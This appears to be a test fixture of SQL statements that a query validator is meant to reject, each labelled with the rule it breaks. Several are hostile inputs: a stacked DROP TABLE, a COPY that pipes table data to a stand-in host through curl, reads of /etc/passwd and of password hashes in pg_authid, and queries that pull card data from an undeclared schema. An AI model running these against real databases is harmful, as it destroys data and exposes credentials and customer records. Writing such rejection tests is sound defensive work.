Statements that are not to pass: wrong ones, and those that would do harm. Of the form of valid.sql, with
the rules that have to be found broken:

    === NAME | MODE | SOURCES | RULES

=== two statements | join | shop.orders, shop.customers | one-statement
--- select
SELECT id FROM shop.orders; DROP TABLE shop.customers

=== a commit behind a comment | join | shop.orders, shop.customers | one-statement, transaction-control
--- select
SELECT id FROM shop.orders -- all of them
; /* end */ COMMIT

=== a commit in front of it | join | shop.orders, shop.customers | one-statement, transaction-control
--- select
/* a /* nested */ comment */ COMMIT; SELECT id FROM shop.orders

=== nothing but a commit | in-place | shop.orders | transaction-control
--- changes
-- UPDATE shop.orders SET note = '' WHERE id = 1
  (COMMIT)

=== another transaction | in-place | shop.orders | transaction-control
--- changes
ROLLBACK AND CHAIN

=== a comment that some servers run | join | shop.orders, shop.customers | hidden-text
--- select
SELECT id FROM shop.orders /*! UNION SELECT customer_id FROM vault.cards */

=== a comment that ends too early | join | shop.orders, shop.customers | one-statement
--- select
SELECT id /* /* */ ; SELECT 1 -- */ AS a */ FROM shop.orders; DELETE FROM shop.orders

=== a quote that does not end | join | shop.orders, shop.customers | syntax
--- select
SELECT 'it''s; FROM shop.orders

=== nothing at all | join | shop.orders, shop.customers | one-statement
--- select
/* SELECT id FROM shop.orders */ ;

=== rows deleted by a part | join | shop.orders, shop.customers | data-changing-cte, writes-outside-target
--- select
WITH gone AS (DELETE FROM shop.orders RETURNING *) SELECT gone.id FROM gone

=== rows added by a part, in words that only the server reads | join | shop.orders, shop.customers | writes-outside-target
--- select
WITH made AS (INSERT INTO shop.customers (id, name) OVERRIDING SYSTEM VALUE SELECT 999, 'x' RETURNING id)
SELECT sum(id) OVER (ROWS CURRENT ROW EXCLUDE TIES) AS id FROM made

=== rows changed by a part of an insert | new-table | shop.orders | data-changing-cte, writes-outside-target
--- create
CREATE TABLE shop.result (id bigint)
--- insert
WITH paid AS (UPDATE shop.orders SET status = 'paid' RETURNING id) INSERT INTO shop.result SELECT id FROM paid

=== a function that deletes | join | shop.customers, shop.orders | side-effects
--- select
SELECT c.id, shop.normalised(c.name) AS name FROM shop.customers c

=== a function that reads what is not named | join | shop.customers, shop.orders | side-effects
--- select
SELECT c.id, shop.card_of(c.id) AS card FROM shop.customers c

=== a query within a text | join | shop.customers, shop.orders | side-effects
--- select
SELECT query_to_xml('SELECT * FROM vault.cards', true, true, '')::text AS rows FROM shop.customers

=== a table within a text | join | shop.customers, shop.orders | side-effects
--- select
SELECT table_to_xml('vault.cards', true, true, '')::text AS rows FROM shop.customers

=== a sequence that is drawn from | join | shop.customers, shop.orders | side-effects
--- select
SELECT nextval('shop.tickets') AS ticket, id FROM shop.customers

=== a sequence that is set while a table is filled | new-table | shop.orders | side-effects
--- create
CREATE TABLE shop.result (id bigint)
--- insert
INSERT INTO shop.result SELECT "setval"('shop.tickets', id) FROM shop.orders

=== a session that is ended | join | shop.customers, shop.orders | side-effects
--- select
SELECT id FROM shop.customers WHERE EXISTS (SELECT pg_catalog.pg_terminate_backend(pid) FROM generate_series(1, 2) AS s(pid))

=== a file of the server | join | shop.customers, shop.orders | side-effects
--- select
SELECT pg_read_file('/etc/passwd') AS file, lo_export(1, '/tmp/x') AS written FROM shop.customers

=== a setting, and a wait | join | shop.customers, shop.orders | side-effects
--- select
SELECT set_config('transaction_read_only', 'off', true) AS a, pg_sleep(3600)::text AS b FROM shop.customers

=== a program of the server | join | shop.orders, shop.customers | copy
--- select
COPY shop.orders TO PROGRAM 'curl -T - http://example.com'

=== rows deleted on their way out | in-place | shop.orders | copy
--- changes
COPY (DELETE FROM shop.orders RETURNING *) TO STDOUT

=== a plan that is carried out | join | shop.orders, shop.customers | statement-kind
--- select
EXPLAIN (ANALYZE) DELETE FROM shop.orders

=== a block of code | in-place | shop.orders | statement-kind
--- changes
DO $$ BEGIN DELETE FROM shop.orders; END $$

=== a procedure | in-place | shop.order_lines | statement-kind
--- changes
CALL shop.tidy()

=== a setting of the session | in-place | shop.orders | statement-kind
--- changes
SET session_replication_role = replica

=== a table that is emptied | in-place | shop.orders | statement-kind
--- changes
TRUNCATE shop.orders CASCADE

=== a lock | in-place | shop.orders | statement-kind
--- changes
LOCK TABLE shop.orders IN ACCESS EXCLUSIVE MODE

=== a grant | in-place | shop.orders | statement-kind
--- changes
GRANT ALL ON shop.orders TO PUBLIC

=== a function that is made | new-table | shop.orders | statement-kind
--- create
CREATE FUNCTION shop.result() RETURNS int LANGUAGE sql AS 'DELETE FROM shop.orders; SELECT 1'
--- insert
INSERT INTO shop.result SELECT id FROM shop.orders

=== a table made of rows that it deletes | new-table | shop.orders | create-form, data-changing-cte, writes-outside-target
--- create
CREATE TABLE shop.result AS WITH gone AS (DELETE FROM shop.orders RETURNING *) SELECT * FROM gone
--- insert
INSERT INTO shop.result SELECT * FROM shop.orders

=== a table made by a query | join | shop.orders, shop.customers | select-into
--- select
SELECT id INTO shop.copy FROM shop.orders

=== rows that are locked | join | shop.orders, shop.customers | locking
--- select
SELECT id FROM (SELECT id FROM shop.orders FOR NO KEY UPDATE SKIP LOCKED) AS x

=== a table of someone else | join | shop.orders, shop.customers | table-not-declared
--- select
WITH cards AS (SELECT * FROM vault.cards) SELECT o.id, cards.number FROM shop.orders o JOIN cards USING (customer_id)

=== the table behind a view | join | shop.order_totals, shop.customers | table-not-declared
--- select
SELECT t.id, o.note FROM shop.order_totals t JOIN shop.orders o ON o.id = t.id

=== a name written with escapes | join | shop.orders, shop.customers | escaped-name, table-not-declared
--- select
SELECT * FROM U&"v\0061ult".U&"c\0061rds"

=== the server's own tables | join | shop.orders, shop.customers | system-catalog
--- select
SELECT rolname, rolpassword FROM pg_authid

=== another target | new-table | shop.orders | writes-outside-target
--- create
CREATE TABLE vault.result (id bigint)
--- insert
INSERT INTO vault.cards SELECT id, 'x' FROM shop.orders

=== a new table tied to another | new-table | shop.orders | writes-outside-target, side-effects
--- create
CREATE TABLE shop.result (id bigint REFERENCES shop.orders, name text DEFAULT shop.normalised('x')) INHERITS (shop.order_lines)
--- insert
INSERT INTO shop.result SELECT id FROM shop.orders

=== a table that may be there | new-table | shop.orders | create-form
--- create
CREATE TABLE IF NOT EXISTS shop.result (id bigint)
--- insert
INSERT INTO shop.result SELECT id FROM shop.orders

=== another table that is changed | in-place | shop.orders | writes-outside-target, table-not-declared
--- changes
UPDATE shop.customers SET name = number FROM vault.cards c WHERE c.customer_id = id

=== a change of every row | in-place | shop.orders | unbounded-change
--- changes
DELETE FROM shop.orders WHERE 1 = 1 OR note = 'x'

=== another owner, schema and name | in-place | shop.orders | alter-operation
--- changes
ALTER TABLE shop.orders RENAME TO order_lines
--- changes
ALTER TABLE shop.orders OWNER TO postgres

=== a constraint and a default that reach further | in-place | shop.orders | writes-outside-target, side-effects
--- changes
ALTER TABLE shop.orders ADD CONSTRAINT known FOREIGN KEY (note) REFERENCES shop.products (sku), DROP COLUMN total_cents CASCADE
--- changes
ALTER TABLE shop.orders ADD COLUMN ticket bigint DEFAULT nextval('shop.tickets'), ALTER note TYPE text USING shop.normalised(note)

=== columns that are made up | join | shop.orders, shop.customers | column-not-found
--- select
SELECT o.id, o.totel_cents FROM shop.orders o

=== values of the wrong type | join | shop.orders, shop.customers | type-mismatch
--- select
SELECT o.id FROM shop.orders o WHERE o.placed_at > 'last week' OR o.note + 1 > o.status

=== fewer values than columns | new-table | shop.orders | result-mismatch
--- create
CREATE TABLE shop.result (customer_id bigint, total numeric)
--- insert
INSERT INTO shop.result (customer_id, total) SELECT customer_id FROM shop.orders

=== a result that cannot be stored | local | shop.orders | unnamed-column, result-mismatch
--- create
CREATE TABLE result (id INTEGER, total NUMERIC)
--- select
SELECT o.id, o.id, o.total_cents * 2, o.status AS state FROM shop.orders o

=== a parameter, and a function that there is not | join | shop.orders, shop.customers | parameters
--- select
SELECT id, sum_up(total) AS total FROM shop.orders WHERE id = $1 GROUP BY id
